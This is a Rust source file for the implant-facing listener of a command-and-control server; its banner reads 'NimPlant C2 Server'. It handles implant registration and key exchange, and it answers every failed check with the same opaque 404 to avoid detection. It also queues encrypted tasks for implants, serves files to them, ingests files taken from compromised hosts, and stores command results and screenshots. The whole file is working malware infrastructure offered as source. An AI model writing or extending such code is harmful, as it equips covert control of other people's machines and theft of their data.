//! The implant-facing HTTP(S) listener.
//!
//! Every route authenticates the header triplet before touching state:
//! `X-Correlation-ID` must equal the configured allow key, `User-Agent` must
//! match exactly, and `X-Request-ID` carries the implant id. Whatever check
//! fails, the implant sees the same opaque `404 {"status":"Not found"}`. The
//! one deliberate exception is a reconnect for a known-but-inactive implant,
//! which gets `410 Gone` to trigger re-registration.
//!
//! Per-implant state lives behind a mutex; handlers snapshot under the lock,
//! release it for disk/database work, and re-acquire for the terminal update.

use std::net::{IpAddr, SocketAddr};
use std::path::PathBuf;
use std::sync::{Arc, Mutex};

use axum::body::{Body, Bytes};
use axum::extract::{ConnectInfo, Path, Request, State};
use axum::http::{header, HeaderMap, HeaderValue, StatusCode};
use axum::middleware::{self, Next};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, options, post};
use axum::{Json, Router};
use axum_server::tls_rustls::RustlsConfig;
use chrono::Utc;
use flate2::read::GzDecoder;
use flate2::write::{GzEncoder, ZlibEncoder};
use flate2::Compression;
use serde::Deserialize;
use serde_json::json;
use std::io::{Read, Write};
use tokio::sync::broadcast;
use tower_http::trace::TraceLayer;
use tracing::{debug, info, warn};

use base64::{engine::general_purpose::STANDARD as BASE64, Engine as _};
use harrier_crypto::{mask_key, ImplantKey, XorKey};

use crate::config::{Config, ListenerKind};
use crate::database::Database;
use crate::models::{ActivationInfo, ImplantRecord};
use crate::services::badrequest::{BadRequestMonitor, BadRequestReason};
use crate::services::events::{Event, TransferDirection};
use crate::services::files::{resolve_file_id, ResolvedVia};
use crate::services::registry::{lock_record, ImplantRegistry};
use crate::services::screenshot::ScreenshotProcessor;

/// Fixed response banner. The implant-side profile expects this exact
/// string.
pub const SERVER_BANNER: &str = "NimPlant C2 Server";

const CORS_ALLOW_HEADERS: &str =
    "Content-Type,Authorization,X-Request-ID,X-Correlation-ID,User-Agent,Content-MD5";
const CORS_ALLOW_METHODS: &str = "GET,POST,OPTIONS";

/// Base64 prefixes of a gzip stream; a result starting with one of these is
/// a screenshot.
const GZIP_B64_PREFIXES: [&str; 2] = ["H4sIAAAA", "H4sICAAA"];

#[derive(Clone)]
pub struct AppState {
    pub config: Arc<Config>,
    pub registry: Arc<ImplantRegistry>,
    pub db: Arc<Database>,
    pub xor_key: Arc<XorKey>,
    pub event_tx: broadcast::Sender<Event>,
    pub bad_requests: Arc<BadRequestMonitor>,
    pub screenshot: Arc<dyn ScreenshotProcessor>,
    /// Id of this listener process, recorded with every implant it births.
    pub server_id: String,
}

/// JSON body shape shared by the registration POST and the result POST.
#[derive(Deserialize)]
struct EnvelopeBody {
    data: String,
}

#[derive(Deserialize)]
struct TaskResultBody {
    guid: String,
    result: String,
}

pub fn router(state: AppState) -> Router {
    let listener = &state.config.listener;
    Router::new()
        .route("/alive", get(alive))
        .route(
            listener.register_path.as_str(),
            get(register_get).post(register_post),
        )
        .route(listener.reconnect_path.as_str(), options(reconnect))
        .route(listener.task_path.as_str(), get(get_task))
        .route(&format!("{}/u", listener.task_path), post(ingest_file))
        .route(
            &format!("{}/{{file_id}}", listener.task_path),
            get(serve_hosted_file),
        )
        .route(listener.result_path.as_str(), post(post_result))
        .fallback(unknown_route)
        .layer(middleware::from_fn(decorate_response))
        .layer(TraceLayer::new_for_http())
        .with_state(state)
}

/// Bind and serve until the process exits. Bind failures bubble up and are
/// fatal in `main`.
pub async fn start_listener(state: AppState) -> anyhow::Result<()> {
    let config = state.config.clone();
    let app = router(state);
    let addr: SocketAddr = format!("{}:{}", config.listener.ip, config.listener.port).parse()?;

    match config.listener.kind {
        ListenerKind::Http => {
            info!(%addr, "implant listener up (HTTP)");
            let listener = tokio::net::TcpListener::bind(addr).await?;
            axum::serve(
                listener,
                app.into_make_service_with_connect_info::<SocketAddr>(),
            )
            .await?;
        }
        ListenerKind::Https => {
            let cert = config
                .listener
                .ssl_cert_path
                .clone()
                .ok_or_else(|| anyhow::anyhow!("ssl_cert_path missing"))?;
            let key = config
                .listener
                .ssl_key_path
                .clone()
                .ok_or_else(|| anyhow::anyhow!("ssl_key_path missing"))?;
            let tls = RustlsConfig::from_pem_file(cert, key).await?;
            info!(%addr, "implant listener up (HTTPS)");
            axum_server::bind_rustls(addr, tls)
                .serve(app.into_make_service_with_connect_info::<SocketAddr>())
                .await?;
        }
    }
    Ok(())
}

/// Banner and CORS decoration on every response, whatever the outcome.
async fn decorate_response(request: Request, next: Next) -> Response {
    let mut response = next.run(request).await;
    let headers = response.headers_mut();
    headers.insert(header::SERVER, HeaderValue::from_static(SERVER_BANNER));
    headers.insert(
        header::ACCESS_CONTROL_ALLOW_ORIGIN,
        HeaderValue::from_static("*"),
    );
    headers.insert(
        header::ACCESS_CONTROL_ALLOW_HEADERS,
        HeaderValue::from_static(CORS_ALLOW_HEADERS),
    );
    headers.insert(
        header::ACCESS_CONTROL_ALLOW_METHODS,
        HeaderValue::from_static(CORS_ALLOW_METHODS),
    );
    response
}

/// The opaque failure response. Never reveals which check failed.
fn opaque_not_found() -> Response {
    (StatusCode::NOT_FOUND, Json(json!({"status": "Not found"}))).into_response()
}

fn ok_status() -> Response {
    (StatusCode::OK, Json(json!({"status": "OK"}))).into_response()
}

async fn unknown_route() -> Response {
    opaque_not_found()
}

async fn alive() -> Response {
    (StatusCode::OK, Json(json!({"alive": true}))).into_response()
}

fn header_str<'h>(headers: &'h HeaderMap, name: &str) -> Option<&'h str> {
    headers.get(name).and_then(|value| value.to_str().ok())
}

/// The external address to attribute to the implant. Proxy headers are only
/// trusted when configured.
fn observed_ip(config: &Config, headers: &HeaderMap, peer: SocketAddr) -> String {
    if config.trust_proxy_headers
        && let Some(forwarded) = header_str(headers, "x-forwarded-for")
        && let Some(first) = forwarded.split(',').next()
        && !first.trim().is_empty()
    {
        return first.trim().to_string();
    }
    peer.ip().to_string()
}

/// Header triplet check. Returns the implant id carried in `X-Request-ID`
/// (`NO_ID` when absent) or the opaque failure response.
fn authenticate(state: &AppState, headers: &HeaderMap, source: IpAddr) -> Result<String, Response> {
    if header_str(headers, "x-correlation-id") != Some(state.config.implant.http_allow_key.as_str())
    {
        debug!(%source, "correlation key mismatch");
        return Err(opaque_not_found());
    }

    if header_str(headers, "user-agent") != Some(state.config.implant.user_agent.as_str()) {
        state
            .bad_requests
            .notify(source, BadRequestReason::UserAgentMismatch, None);
        return Err(opaque_not_found());
    }

    Ok(header_str(headers, "x-request-id")
        .unwrap_or("NO_ID")
        .to_string())
}

fn lookup_implant(
    state: &AppState,
    implant_id: &str,
    source: IpAddr,
) -> Result<Arc<Mutex<ImplantRecord>>, Response> {
    state.registry.get(implant_id).ok_or_else(|| {
        state
            .bad_requests
            .notify(source, BadRequestReason::IdNotFound, Some(implant_id));
        opaque_not_found()
    })
}

fn workspace_header(headers: &HeaderMap) -> Option<String> {
    header_str(headers, "x-robots-tag")
        .filter(|tag| !tag.is_empty())
        .map(str::to_string)
}

/// Registration phase one: mint a record and hand back the masked key.
async fn register_get(
    State(state): State<AppState>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    headers: HeaderMap,
) -> Response {
    let source = peer.ip();
    if let Err(response) = authenticate(&state, &headers, source) {
        return response;
    }

    let mut record = ImplantRecord::new();
    record.workspace_uuid = workspace_header(&headers);

    let implant_id = record.id.clone();
    let masked = mask_key(&record.encryption_key, &state.xor_key);
    state.registry.add(record);

    debug!(implant = %implant_id, %source, "new implant registered, awaiting activation");
    (
        StatusCode::OK,
        Json(json!({"id": implant_id, "k": masked})),
    )
        .into_response()
}

/// Registration phase two: decrypt the host facts and go live.
async fn register_post(
    State(state): State<AppState>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    headers: HeaderMap,
    body: Bytes,
) -> Response {
    let source = peer.ip();
    let implant_id = match authenticate(&state, &headers, source) {
        Ok(id) => id,
        Err(response) => return response,
    };
    let record = match lookup_implant(&state, &implant_id, source) {
        Ok(record) => record,
        Err(response) => return response,
    };

    let Ok(EnvelopeBody { data }) = serde_json::from_slice::<EnvelopeBody>(&body) else {
        debug!(implant = %implant_id, "activation body is not the expected JSON shape");
        return opaque_not_found();
    };

    let key = lock_record(&record).encryption_key.clone();
    let info: ActivationInfo = match harrier_crypto::decrypt(&data, &key)
        .map_err(anyhow::Error::from)
        .and_then(|plain| serde_json::from_str(&plain).map_err(anyhow::Error::from))
    {
        Ok(info) => info,
        Err(error) => {
            debug!(implant = %implant_id, %error, "bad key: activation blob rejected");
            state
                .bad_requests
                .notify(source, BadRequestReason::BadKey, Some(&implant_id));
            return opaque_not_found();
        }
    };

    let ip_external = observed_ip(&state.config, &headers, peer);
    let workspace = workspace_header(&headers);

    let snapshot = {
        let mut guard = lock_record(&record);
        if guard.workspace_uuid.is_none() {
            guard.workspace_uuid = workspace;
        }
        guard.activate(ip_external, info);
        guard.checkin();
        guard.clone()
    };

    if let Err(error) = state.db.initialize_implant(&snapshot, &state.server_id).await {
        warn!(%error, "database initialize failed");
    }

    let _ = state.event_tx.send(Event::ImplantActivated {
        implant_id: snapshot.id.clone(),
        hostname: snapshot.hostname.clone(),
        username: snapshot.username.clone(),
        ip_external: snapshot.ip_external.clone(),
        workspace_uuid: snapshot.workspace_uuid.clone(),
        at: Utc::now(),
    });

    state.registry.select_if_none(&snapshot.id);

    if let Err(error) = state
        .db
        .implant_log(
            &snapshot.id,
            &format!(
                "Implant checked in, total check-ins: {}",
                snapshot.checkin_count
            ),
            true,
        )
        .await
    {
        warn!(%error, "database log failed");
    }

    info!(
        implant = %snapshot.id,
        hostname = snapshot.hostname.as_deref().unwrap_or("-"),
        username = snapshot.username.as_deref().unwrap_or("-"),
        "implant activated"
    );
    ok_status()
}

/// Reconnect: re-deliver the masked key, or tell a stale implant to start
/// over.
async fn reconnect(
    State(state): State<AppState>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    headers: HeaderMap,
) -> Response {
    let source = peer.ip();
    let implant_id = match authenticate(&state, &headers, source) {
        Ok(id) => id,
        Err(response) => return response,
    };
    let record = match lookup_implant(&state, &implant_id, source) {
        Ok(record) => record,
        Err(response) => return response,
    };

    let (active, key) = {
        let guard = lock_record(&record);
        (guard.is_active(), guard.encryption_key.clone())
    };

    if !active {
        debug!(implant = %implant_id, "reconnect from inactive implant, requesting re-registration");
        return (
            StatusCode::GONE,
            Json(json!({
                "status": "inactive",
                "message": "Implant is inactive, please re-register"
            })),
        )
            .into_response();
    }

    (
        StatusCode::OK,
        Json(json!({"k": mask_key(&key, &state.xor_key)})),
    )
        .into_response()
}

fn is_kill_task(envelope: &str) -> bool {
    serde_json::from_str::<serde_json::Value>(envelope)
        .ok()
        .and_then(|task| {
            task.get("command")
                .and_then(|command| command.as_str())
                .map(|command| command == "kill")
        })
        .unwrap_or(false)
}

/// Task poll: liveness bookkeeping, then one task off the FIFO if any.
async fn get_task(
    State(state): State<AppState>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    headers: HeaderMap,
) -> Response {
    let source = peer.ip();
    let implant_id = match authenticate(&state, &headers, source) {
        Ok(id) => id,
        Err(response) => return response,
    };
    let record = match lookup_implant(&state, &implant_id, source) {
        Ok(record) => record,
        Err(response) => return response,
    };

    let observed = observed_ip(&state.config, &headers, peer);

    // Check-in fields move together; observers must never see a torn update.
    let (ip_change, snapshot) = {
        let mut guard = lock_record(&record);

        if guard.pending_tasks.iter().any(|task| is_kill_task(task)) {
            debug!(implant = %guard.id, "kill command pending in queue");
        }

        let ip_change = if guard.ip_external.as_deref() != Some(observed.as_str()) {
            let previous = guard.ip_external.replace(observed.clone());
            Some(previous)
        } else {
            None
        };

        guard.checkin();
        (ip_change, guard.clone())
    };

    if let Some(previous) = ip_change {
        info!(
            implant = %snapshot.id,
            previous = previous.as_deref().unwrap_or("-"),
            current = %observed,
            "external IP address changed"
        );
        let _ = state.event_tx.send(Event::ExternalIpChanged {
            implant_id: snapshot.id.clone(),
            previous,
            current: observed,
            at: Utc::now(),
        });
    }

    if let Err(error) = state.db.update_implant(&snapshot).await {
        warn!(%error, "database update failed");
    }
    if let Err(error) = state
        .db
        .implant_log(
            &snapshot.id,
            &format!(
                "Implant checked in, total check-ins: {}",
                snapshot.checkin_count
            ),
            true,
        )
        .await
    {
        warn!(%error, "database log failed");
    }

    // Re-read the queue: the admin plane may have appended while the
    // database calls were in flight. The dequeue happens under the record
    // lock, so a task is never seen then lost.
    let next = lock_record(&record).next_task();
    match next {
        Some(envelope) => match harrier_crypto::encrypt(&envelope, &snapshot.encryption_key) {
            Ok(task) => {
                debug!(implant = %snapshot.id, "task delivered");
                (StatusCode::OK, Json(json!({"t": task}))).into_response()
            }
            Err(error) => {
                warn!(implant = %snapshot.id, %error, "task envelope encryption failed");
                ok_status()
            }
        },
        None => ok_status(),
    }
}

/// Read, deflate, encrypt and gzip-wrap a hosted file off the request path.
fn package_hosted_file(
    path: PathBuf,
    filename: String,
    key: ImplantKey,
) -> anyhow::Result<(Vec<u8>, String, u64)> {
    let contents = std::fs::read(&path)?;
    let size = contents.len() as u64;

    let mut deflater = ZlibEncoder::new(Vec::new(), Compression::default());
    deflater.write_all(&contents)?;
    let compressed = deflater.finish()?;

    let envelope = harrier_crypto::encrypt(&compressed, &key)?;

    let mut gz = GzEncoder::new(Vec::new(), Compression::default());
    gz.write_all(envelope.as_bytes())?;
    let gzipped = gz.finish()?;

    let filename_header = BASE64.encode(harrier_crypto::encrypt(filename.as_bytes(), &key)?);
    Ok((gzipped, filename_header, size))
}

/// Hosted file delivery (`task_path/<file_id>`).
async fn serve_hosted_file(
    State(state): State<AppState>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    Path(file_id): Path<String>,
    headers: HeaderMap,
) -> Response {
    let source = peer.ip();
    let implant_id = match authenticate(&state, &headers, source) {
        Ok(id) => id,
        Err(response) => return response,
    };
    let record = match lookup_implant(&state, &implant_id, source) {
        Ok(record) => record,
        Err(response) => return response,
    };

    let Some(task_guid) = header_str(&headers, "content-md5").map(str::to_string) else {
        state
            .bad_requests
            .notify(source, BadRequestReason::NoTaskGuid, Some(&implant_id));
        return opaque_not_found();
    };

    let (key, hosting_file) = {
        let guard = lock_record(&record);
        (guard.encryption_key.clone(), guard.hosting_file.clone())
    };

    let resolved = resolve_file_id(
        &state.db,
        &state.config.files.uploads_dir,
        &file_id,
        hosting_file.as_deref(),
    )
    .await;

    let Some(resolved) = resolved else {
        let reason = if hosting_file.is_none() {
            BadRequestReason::NotHostingFile
        } else {
            BadRequestReason::IncorrectFileId
        };
        state.bad_requests.notify(source, reason, Some(&implant_id));
        // Deliberately indistinct from an idle poll.
        return ok_status();
    };

    // Keep the slot in line with what actually resolved.
    if resolved.via != ResolvedVia::LegacySlot
        && let Some(current) = &hosting_file
        && *current != resolved.path
    {
        lock_record(&record).hosting_file = Some(resolved.path.clone());
    }

    let package = {
        let path = resolved.path.clone();
        let filename = resolved.filename.clone();
        let key = key.clone();
        tokio::task::spawn_blocking(move || package_hosted_file(path, filename, key)).await
    };

    match package {
        Ok(Ok((gzipped, filename_header, size))) => {
            if let Err(error) = state
                .db
                .log_file_transfer(
                    &implant_id,
                    &resolved.filename,
                    size,
                    TransferDirection::Upload.as_str(),
                )
                .await
            {
                warn!(%error, "database transfer log failed");
            }
            let _ = state.event_tx.send(Event::FileTransferred {
                implant_id: implant_id.clone(),
                filename: resolved.filename.clone(),
                size,
                direction: TransferDirection::Upload,
                task_guid: Some(task_guid),
                at: Utc::now(),
            });
            if resolved.via == ResolvedVia::LegacySlot {
                lock_record(&record).stop_hosting_file();
            }

            info!(
                implant = %implant_id,
                filename = %resolved.filename,
                size,
                "hosted file delivered"
            );
            match Response::builder()
                .status(StatusCode::OK)
                .header(header::CONTENT_TYPE, "application/x-gzip")
                .header(header::CONTENT_ENCODING, "gzip")
                .header("X-Original-Filename", filename_header)
                .body(Body::from(gzipped))
            {
                Ok(response) => response,
                Err(error) => {
                    warn!(%error, "response assembly failed");
                    opaque_not_found()
                }
            }
        }
        Ok(Err(error)) => {
            warn!(implant = %implant_id, %error, "hosted file packaging failed");
            if resolved.via == ResolvedVia::LegacySlot {
                lock_record(&record).stop_hosting_file();
            }
            opaque_not_found()
        }
        Err(error) => {
            warn!(%error, "hosted file task panicked");
            opaque_not_found()
        }
    }
}

/// File ingest (`task_path/u`): the body is `encrypt(gzip(bytes))`, raw.
async fn ingest_file(
    State(state): State<AppState>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    headers: HeaderMap,
    body: Bytes,
) -> Response {
    let source = peer.ip();
    let implant_id = match authenticate(&state, &headers, source) {
        Ok(id) => id,
        Err(response) => return response,
    };
    let record = match lookup_implant(&state, &implant_id, source) {
        Ok(record) => record,
        Err(response) => return response,
    };

    let (key, destination) = {
        let guard = lock_record(&record);
        (guard.encryption_key.clone(), guard.receiving_file.clone())
    };

    let Some(destination) = destination else {
        state
            .bad_requests
            .notify(source, BadRequestReason::NotReceivingFile, Some(&implant_id));
        // Indistinct from an idle poll; nothing is written.
        return ok_status();
    };

    let Some(task_guid) = header_str(&headers, "content-md5").map(str::to_string) else {
        state
            .bad_requests
            .notify(source, BadRequestReason::NoTaskGuid, Some(&implant_id));
        lock_record(&record).stop_receiving_file();
        return opaque_not_found();
    };

    let written = {
        let destination = destination.clone();
        tokio::task::spawn_blocking(move || -> anyhow::Result<u64> {
            let envelope = std::str::from_utf8(&body)?;
            let decrypted = harrier_crypto::decrypt_to_bytes(envelope, &key)?;

            let mut decoder = GzDecoder::new(decrypted.as_slice());
            let mut plain = Vec::new();
            decoder.read_to_end(&mut plain)?;

            std::fs::write(&destination, &plain)?;
            Ok(plain.len() as u64)
        })
        .await
    };

    match written {
        Ok(Ok(size)) => {
            let filename = destination
                .file_name()
                .map(|name| name.to_string_lossy().into_owned())
                .unwrap_or_else(|| destination.to_string_lossy().into_owned());

            info!(
                implant = %implant_id,
                task = %task_guid,
                path = %destination.display(),
                size,
                "file received from implant"
            );
            if let Err(error) = state
                .db
                .log_file_transfer(
                    &implant_id,
                    &filename,
                    size,
                    TransferDirection::Download.as_str(),
                )
                .await
            {
                warn!(%error, "database transfer log failed");
            }
            let _ = state.event_tx.send(Event::FileTransferred {
                implant_id: implant_id.clone(),
                filename,
                size,
                direction: TransferDirection::Download,
                task_guid: Some(task_guid),
                at: Utc::now(),
            });

            lock_record(&record).stop_receiving_file();
            ok_status()
        }
        Ok(Err(error)) => {
            debug!(implant = %implant_id, %error, "file ingest failed");
            lock_record(&record).stop_receiving_file();
            opaque_not_found()
        }
        Err(error) => {
            warn!(%error, "file ingest task panicked");
            lock_record(&record).stop_receiving_file();
            opaque_not_found()
        }
    }
}

fn decode_base64_blob(blob: &str) -> Option<String> {
    BASE64
        .decode(blob.trim())
        .ok()
        .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
}

/// Result upload: decrypt, decode, post-process screenshots, store by task
/// id.
async fn post_result(
    State(state): State<AppState>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    headers: HeaderMap,
    body: Bytes,
) -> Response {
    let source = peer.ip();
    let implant_id = match authenticate(&state, &headers, source) {
        Ok(id) => id,
        Err(response) => return response,
    };
    let record = match lookup_implant(&state, &implant_id, source) {
        Ok(record) => record,
        Err(response) => return response,
    };

    let Ok(EnvelopeBody { data }) = serde_json::from_slice::<EnvelopeBody>(&body) else {
        return opaque_not_found();
    };

    let key = lock_record(&record).encryption_key.clone();
    let parsed: TaskResultBody = match harrier_crypto::decrypt(&data, &key)
        .map_err(anyhow::Error::from)
        .and_then(|plain| serde_json::from_str(&plain).map_err(anyhow::Error::from))
    {
        Ok(parsed) => parsed,
        Err(error) => {
            debug!(implant = %implant_id, %error, "bad key: result envelope rejected");
            state
                .bad_requests
                .notify(source, BadRequestReason::BadKey, Some(&implant_id));
            return opaque_not_found();
        }
    };

    let Some(decoded) = decode_base64_blob(&parsed.result) else {
        debug!(implant = %implant_id, "result blob is not valid base64");
        return opaque_not_found();
    };

    let stored = if GZIP_B64_PREFIXES
        .iter()
        .any(|prefix| decoded.starts_with(prefix))
    {
        debug!(implant = %implant_id, task = %parsed.guid, "result is a screenshot, post-processing");
        let hook = state.screenshot.clone();
        let hook_implant = implant_id.clone();
        let raw = decoded.clone();
        match tokio::task::spawn_blocking(move || hook.process(&hook_implant, &raw)).await {
            Ok(Ok(processed)) => processed,
            Ok(Err(error)) => {
                warn!(implant = %implant_id, %error, "screenshot processing failed");
                return opaque_not_found();
            }
            Err(error) => {
                warn!(%error, "screenshot task panicked");
                return opaque_not_found();
            }
        }
    } else {
        decoded
    };

    lock_record(&record).set_task_result(parsed.guid.clone(), stored);

    if let Err(error) = state
        .db
        .implant_log(
            &implant_id,
            &format!("Result stored for task {}", parsed.guid),
            false,
        )
        .await
    {
        warn!(%error, "database log failed");
    }
    let _ = state.event_tx.send(Event::TaskResultStored {
        implant_id,
        task_guid: parsed.guid,
        at: Utc::now(),
    });

    ok_status()
}
